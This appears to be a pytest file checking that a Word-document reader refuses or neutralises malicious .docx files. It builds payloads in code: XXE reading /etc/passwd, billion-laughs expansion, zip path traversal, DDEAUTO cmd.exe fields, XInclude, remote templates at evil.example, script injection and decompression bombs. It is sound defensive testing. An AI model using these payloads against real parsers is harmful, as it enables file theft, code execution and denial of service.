"""Files that are meant to do harm, and files that are none: clear words, and nothing happens."""

from __future__ import annotations

import io
import socket
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from itertools import pairwise
from pathlib import Path
from typing import Any, NoReturn

import pytest
from tests.word.cases import AGREED, LABELS
from tests.word.made import (
    DECLARED,
    DOCUMENT,
    control,
    document,
    edited,
    p,
    packed,
    parts,
    relation,
    replaced,
    table,
)
from tests.word.test_cases import receive

from golocal.base.catalogue import Catalogue
from golocal.word import opened
from golocal.word.markup import NAMESPACES
from golocal.word.opened import RefusedError

SOUND = document(table(*LABELS.items()) + AGREED)
"""What stands around the harm: a form that is complete."""

RELATIONS = "word/_rels/document.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DOCTYPE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
LETTERS = "abcdefghij"
NINES = "9" * 5_000
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {name} "' + 10 * f"&{before};" + '">' for before, name in pairwise(LETTERS)
    )
    + "]>"
)


def with_part(name: str, content: bytes | str = b"x") -> bytes:
    """The sound file with one part more, or another instead."""
    return packed({**parts(SOUND), name: content.encode() if isinstance(content, str) else content})


def with_relation(kind: str, target: str, *, is_outside: bool = False) -> bytes:
    """The sound file with one relation more."""
    more = relation("more", kind, target, is_outside=is_outside)
    return replaced(SOUND, "</Relationships>", f"{more}</Relationships>", RELATIONS)


def before_root(said: str, name: str = DOCUMENT) -> bytes:
    """The sound file with something between the declaration and the root of a part."""
    return replaced(SOUND, "?>", f"?>{said}", name)


def archive(method: int = zipfile.ZIP_DEFLATED, *names: str) -> bytes:
    """A file packed in a way of its own, with names of its own."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, content in parts(SOUND).items():
            made.writestr(name, content)
        for name in names:
            made.writestr(zipfile.ZipInfo(name), b"<x/>")
    return out.getvalue()


def twice(name: str) -> bytes:
    """The sound file with a second part of a name, of which some programs read the first."""
    out = io.BytesIO(SOUND)
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as made:
        warnings.simplefilter("ignore")  # Python tells of it, too
        made.writestr(name, b"<x/>")
    return out.getvalue()


def locked() -> bytes:
    """The sound file whose parts say that they have a password."""
    content = bytearray(SOUND)
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := content.find(sign, at + 1)) >= 0:
            content[at + offset] |= 1
    return bytes(content)


def lying(size: int) -> bytes:
    """The sound file whose first part tells another size."""
    content = bytearray(SOUND)
    at = content.find(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(content)


def spoilt() -> bytes:
    """The sound file with a byte of the text changed, so that its sum is wrong."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as made:
        for name, content in parts(SOUND).items():
            made.writestr(name, content)
    return out.getvalue().replace(b"Newtown wrote", b"Newtown wrots")


def sheet() -> bytes:
    """A table of Excel with another name."""
    return replaced(SOUND, "wordprocessingml.document.main", "spreadsheetml.sheet.main",
                    "[Content_Types].xml")  # fmt: skip


def utf_16(text: str) -> bytes:
    """A part in UTF-16, in which a search for bytes finds nothing."""
    return with_part(DOCUMENT, f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16"))


def carrying(name: str) -> bytes:
    """The sound file with a part of relations that brings in another file."""
    more = relation("more", "aFChunk", "x.docx")
    return with_part(name, f"<Relationships xmlns='{NAMESPACES['rel']}'>{more}</Relationships>")


def large() -> bytes:
    """A text that a hundred relations name, each as another part of it."""
    more = "".join(relation(f"m{at}", "footer", "footer1.xml") for at in range(200))
    foot = "".join(p(f"{at} of the foot") for at in range(40_000))
    return packed({
        **parts(replaced(SOUND, "</Relationships>", f"{more}</Relationships>", RELATIONS)),
        "word/footer1.xml": f"<w:ftr {DECLARED}>{foot}</w:ftr>".encode()})  # fmt: skip


def numbered() -> bytes:
    """As many lists as there are levels of one: together they would be their product."""
    levels = "".join(f"<w:lvl w:ilvl='{at}'/>" for at in range(20_000))
    lists = "".join(
        f"<w:num w:numId='{at}'><w:abstractNumId w:val='1'/></w:num>" for at in range(20_000)
    )
    inside = f"<w:abstractNum w:abstractNumId='1'>{levels}</w:abstractNum>{lists}"
    return packed({
        **parts(with_relation("numbering", "numbering.xml")),
        "word/numbering.xml": f"<w:numbering {DECLARED}>{inside}</w:numbering>".encode(),
    })  # fmt: skip


def nested(count: int) -> bytes:
    """Controls in controls."""
    inside = "<w:sdt><w:sdtContent>" * count + p("deep") + "</w:sdtContent></w:sdt>" * count
    return document(inside)


REFUSED: Mapping[str, tuple[Callable[[], bytes], str, str]] = {
    "nothing at all": (lambda: b"", "empty", ""),
    "bytes without sense": (lambda: b"\x07" * 900, "kind", ""),
    "a document of Word 97": (lambda: OLE + b"\0" * 900, "old", ""),
    "a PDF": (lambda: b"%PDF-1.7\n%%EOF", "pdf", ""),
    "a file in RTF": (lambda: b"{\\rtf1 hello}", "rtf", ""),
    "a page of the web": (lambda: b"<html><script>alert(1)</script></html>", "html", ""),
    "a file of LibreOffice": (
        lambda: packed({"mimetype": b"x", "content.xml": b"<x/>"}), "odt", ""),
    "an archive of something else": (lambda: packed({"a.txt": b"hello"}), "kind", ""),
    "a table of Excel": (sheet, "kind", ""),
    "a document with macros": (
        lambda: document(p("x"), main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros", DOCUMENT),
    "a program under a harmless kind": (
        lambda: with_part("word/vbaProject.bin", OLE), "macros", "word/vbaProject.bin"),
    "a control that runs": (
        lambda: with_part("word/activeX/activeX1.xml", "<x/>"),
        "macros", "word/activeX/activeX1.xml"),
    "buttons that run": (
        lambda: with_part("customUI/customUI.xml", "<x/>"), "macros", "customUI/customUI.xml"),
    "an embedded object": (
        lambda: with_part("word/embeddings/oleObject1.bin", OLE),
        "embedded", "word/embeddings/oleObject1.bin"),
    "an embedded table": (
        lambda: with_relation("package", "attached.xlsx"), "embedded", "word/attached.xlsx"),
    "a linked object": (
        lambda: with_relation("oleObject", "file://server/share/x.xls", is_outside=True),
        "embedded", "file://server/share/x.xls"),
    "a piece of a page": (
        lambda: with_part("word/afchunk.htm", "<script>alert(1)</script>"),
        "embedded", "word/afchunk.htm"),
    "a piece of another document": (
        lambda: with_relation("aFChunk", "other.docx"), "embedded", "word/other.docx"),
    "a part document elsewhere": (
        lambda: with_relation("subDocument", "https://evil.example/a.docx", is_outside=True),
        "embedded", "https://evil.example/a.docx"),
    "a program beside the text": (
        lambda: with_part("word/setup.exe", b"MZ"), "embedded", "word/setup.exe"),
    "an entity of the disk": (lambda: before_root(DOCTYPE), "dtd", DOCUMENT),
    "entities without end": (lambda: before_root(LAUGHS), "dtd", DOCUMENT),
    "a document type in UTF-16": (lambda: utf_16(f"{DOCTYPE}<x/>"), "dtd", DOCUMENT),
    "a document type among the relations": (
        lambda: before_root(DOCTYPE, RELATIONS), "dtd", RELATIONS),
    "a document type in the notes": (
        lambda: packed({
            **parts(with_relation("footnotes", "footnotes.xml")),
            "word/footnotes.xml": f"{DOCTYPE}<w:footnotes {DECLARED}/>".encode()}),
        "dtd", "word/footnotes.xml"),
    "a document type in letters of a mainframe": (
        lambda: with_part(
            DOCUMENT, f'<?xml version="1.0" encoding="IBM037"?>{DOCTYPE}<x/>'.encode("cp037")),
        "encoding", DOCUMENT),
    "a document type in UTF-16 that does not say so": (
        lambda: with_part(DOCUMENT, f"<?xml version='1.0'?>{DOCTYPE}<x/>".encode("utf-16-le")),
        "encoding", DOCUMENT),
    "a relation in a folder that only looks like another": (
        lambda: carrying("word/a_rels/_rels/b.xml.rels"), "embedded", "word/a_rels/x.docx"),
    "a relation that another program finds": (
        lambda: carrying("word/_RELS/settings.xml.RELS"), "embedded", "word/x.docx"),
    "letters of another world": (
        lambda: replaced(SOUND, 'encoding="UTF-8"', 'encoding="UTF-7"'), "encoding", DOCUMENT),
    "a text that grows": (
        lambda: with_part(DOCUMENT, b"<x>" + b" " * 9_000_000 + b"</x>"), "bomb", DOCUMENT),
    "parts without end": (
        lambda: packed({f"{number}.xml": b"<x/>" for number in range(2_001)}), "parts", "2,001"),
    "a part above its folder": (
        lambda: archive(zipfile.ZIP_DEFLATED, "../../../etc/cron.d/x"),
        "paths", "../../../etc/cron.d/x"),
    "a part at the root": (lambda: archive(zipfile.ZIP_DEFLATED, "/etc/x"), "paths", "/etc/x"),
    "a part on a drive": (
        lambda: archive(zipfile.ZIP_DEFLATED, "C:\\Windows\\x"), "paths", "C:\\Windows\\x"),
    "two texts of nearly one name": (lambda: twice("Word/Document.xml"), "twice", ""),
    "parts with a password": (locked, "password", "[Content_Types].xml"),
    "packed by other means": (
        lambda: archive(zipfile.ZIP_LZMA), "packing", "[Content_Types].xml"),
    "half a file": (lambda: SOUND[: len(SOUND) // 2], "broken", ""),
    "a part that lies about its size": (lambda: lying(3), "broken", "[Content_Types].xml"),
    "a part with a wrong sum": (spoilt, "broken", DOCUMENT),
    "controls in controls without end": (lambda: nested(120), "deep", DOCUMENT),
    "deeper than any parser goes": (lambda: nested(9_000), "xml", DOCUMENT),
    "a text that ends in its middle": (
        lambda: with_part(DOCUMENT, "<w:document"), "xml", DOCUMENT),
    "a character that is none": (
        lambda: replaced(SOUND, "Newtown wrote", "&#0;"), "xml", DOCUMENT),
    "the text outside of the file": (
        lambda: replaced(SOUND, f"Target='{DOCUMENT}'", "Target='../../etc/passwd'", "_rels/.rels"),
        "kind", ""),
    "more bytes than a mail has": (lambda: b"PK" + bytes(20_000_001), "large", "20"),
}  # fmt: skip
"""Files that are refused as a whole: how each is made, and why, with what is named."""


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever opens a connection fails the test."""

    def refuse(*_: object, **__: object) -> NoReturn:
        pytest.fail("something was fetched")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_is_refused_in_words(name: str, words: Catalogue) -> None:
    """The reason has words, and says what it is about."""
    make, reason, what = REFUSED[name]

    with pytest.raises(RefusedError) as refused:
        reading(make())

    assert (refused.value.reason, refused.value.what) == (reason, what)
    assert words.text(f"word.refused.{reason}", what=what)


def reading(content: bytes) -> object:
    """Open and read a file as the command does."""
    from golocal.word import reading as read  # noqa: PLC0415 - only here

    return read.read(opened.opened(content))


def test_every_refusal_has_its_file(words: Catalogue) -> None:
    """No reason is told that no file shows."""
    assert set(words.below("word.refused")) == {reason for _, reason, _ in REFUSED.values()}


def test_a_refused_file_leaves_nothing_behind(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """No entry, no reply; the words are for the editor, and the status says that it failed."""
    status = receive(REFUSED["a document with macros"][0](), tmp_path)

    assert status == 1
    assert capsys.readouterr().err == (
        f"{tmp_path}/form.docx was not read. It carries a program (macros), which is never run. "
        "Ask for it to be saved as a Word document without macros (.docx).\n"
    )
    assert [path.name for path in tmp_path.iterdir()] == ["form.docx"]


def field(code: str) -> str:
    """A field with words of its own."""
    return (
        "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
        f"<w:r><w:instrText>{code}</w:instrText></w:r>"
        "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>shown</w:t></w:r>"
        "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
    )


def answered(**said: str) -> bytes:
    """A form with some answers of its own."""
    own = {**LABELS, **{key.replace("_", " "): text for key, text in said.items()}}
    return document(table(*own.items()) + AGREED)


READ: Mapping[str, tuple[Callable[[], bytes], str, str]] = {
    "a picture elsewhere": (
        lambda: with_relation("image", "https://spy.example/p.png", is_outside=True),
        "which was not fetched:\n- https://spy.example/p.png\n", "spy.example"),
    "a template elsewhere": (
        lambda: packed({
            **parts(with_relation("settings", "settings.xml")),
            "word/settings.xml": f"<w:settings {DECLARED}/>".encode(),
            "word/_rels/settings.xml.rels": (
                "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
                + relation("t", "attachedTemplate", "https://evil.example/t.dotm", is_outside=True)
                + "</Relationships>").encode()}),
        "which was not fetched:\n- https://evil.example/t.dotm\n", "evil.example"),
    "a field that starts a program": (
        lambda: answered(Context=p(field("DDEAUTO c:\\\\windows\\\\cmd.exe"), ".[1]")),
        "- DDEAUTO c:\\\\windows\\\\cmd.exe\n", "cmd.exe"),
    "a field that takes in a file": (
        lambda: answered(Context=p(field('INCLUDETEXT "/etc/passwd"'), ".[1]")),
        '- INCLUDETEXT "/etc/passwd"\n', "passwd"),
    "a link that runs": (
        lambda: answered(Context=p(field('HYPERLINK "javascript:alert(1)"'), ".[1]")),
        "Made out/", "javascript"),
    "a link to a share": (
        lambda: answered(Context=p(field('HYPERLINK "\\\\\\\\server\\\\share"'), ".[1]")),
        "Made out/", "server"),
    "a script in an answer": (
        lambda: answered(Context="&lt;script&gt;alert(1)&lt;/script&gt; few knew.[1]"),
        "is HTML, and stands there as plain text now", "<script"),
    "a title that climbs": (
        lambda: answered(Title="../../../etc/passwd"),
        "Made out/newtown-etc-passwd.md", "root:x:0"),
    "a control for what is not asked": (
        lambda: document(control("aliases", "graz") + table(*LABELS.items()) + AGREED),
        "word for word:\n- graz\n", "aliases"),
    "a form of no kind": (
        lambda: packed({
            **parts(SOUND),
            "docProps/custom.xml": (
                b"<Properties xmlns='http://schemas.openxmlformats.org/officeDocument/2006/"
                b"custom-properties'><property name='golocal-form'>../x</property>"
                b"<property name='golocal-language'>../../en</property></Properties>")}),
        "Made out/", "../"),
    "words to the machine": (
        lambda: document(p("##[set-env name=PATH;]/tmp") + table(*LABELS.items()) + AGREED),
        "- ## [set-env name=PATH;]/tmp\n", "##["),
    "signs that turn the terminal": (
        lambda: answered(Context="Few knew\u202e them.[1]"), "Made out/", "\u202e"),
    "a picture larger than any memory": (
        lambda: packed({
            **parts(with_relation("image", "media/image1.png")),
            "word/media/image1.png": huge_picture()}),
        "- no. 1 cannot be read.\n", "image1"),
    "a drawing with a script": (
        lambda: packed({
            **parts(with_relation("image", "media/image1.svg")),
            "word/media/image1.svg": b"<svg><script>alert(1)</script></svg>"}),
        "- no. 1 cannot be read.\n", "alert"),
    "a file that includes another": (
        lambda: edited(SOUND, included), "Made out/", "passwd"),
    "a sheet of styles that runs": (
        lambda: before_root('<?xml-stylesheet href="https://evil.example/x.xsl"?>'),
        "Made out/", "evil.example"),
    "a word without end": (
        lambda: answered(Context=f"Few knew {'x' * 200_000} them.[1]"),
        "It has 200,0", "x" * 2_000),
    "one part, named again and again": (large, "- 39999 of the foot\n", "of the foot"),
    "lists and levels without end": (numbered, "Made out/", "ilvl"),
    "a level with more figures than a number has": (
        lambda: document(
            p("Few knew.", looks="".join(
                f"<w:numPr><w:ilvl w:val='{NINES}'/><w:numId w:val='{NINES}'/></w:numPr>"
                f"<w:outlineLvl w:val='{NINES}'/>" for _ in "1"))
            + table(*LABELS.items()) + AGREED),
        "- Few knew.\n", NINES),
    "fields in fields without end": (
        lambda: document(p("<w:r><w:fldChar w:fldCharType='begin'/></w:r>" * 20_000)
                         + table(*LABELS.items()) + AGREED), "Made out/", "fldChar"),
    "changes in pieces without end": (
        lambda: document(p(*(
            f"<w:ins w:author='a'><w:r><w:t>{at} </w:t></w:r></w:ins>" for at in range(20_000)))
            + table(*LABELS.items()) + AGREED), "19999\n", "19999"),
    "rows without end": (
        lambda: document(
            table(*LABELS.items(), *((f"a {at}", "b") for at in range(5_000))) + AGREED),
        "- a 4999\n", "a 4999"),
}  # fmt: skip
"""Files that are read: how each is made, what is said, and what may not be in the entry."""


def included(root: Any) -> None:  # noqa: ANN401 - lxml ships no types
    """Put an inclusion into the text."""
    from lxml import etree  # noqa: PLC0415 - only here

    name = "{http://www.w3.org/2001/XInclude}include"
    root[0].insert(0, etree.Element(name, href="/etc/passwd", parse="text"))


def huge_picture() -> bytes:
    """The head of a picture that says it has ten thousand million pixels."""
    import zlib  # noqa: PLC0415 - only here

    head = b"IHDR" + struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))


@pytest.mark.parametrize("name", READ)
def test_a_file_is_read_and_nothing_happens(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Its harm is told or gone, and the entry is as without it."""
    make, told, gone = READ[name]

    receive(make(), tmp_path)

    said = capsys.readouterr().out.replace(f"{tmp_path}/", "")
    made = "".join(path.read_text("utf-8") for path in (tmp_path / "out").glob("*.md"))
    assert told in said
    assert gone not in made
    assert "title: " in made
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "form.docx", "form.docx.reply.docx", "form.docx.reply.txt", "out"
    ]  # fmt: skip
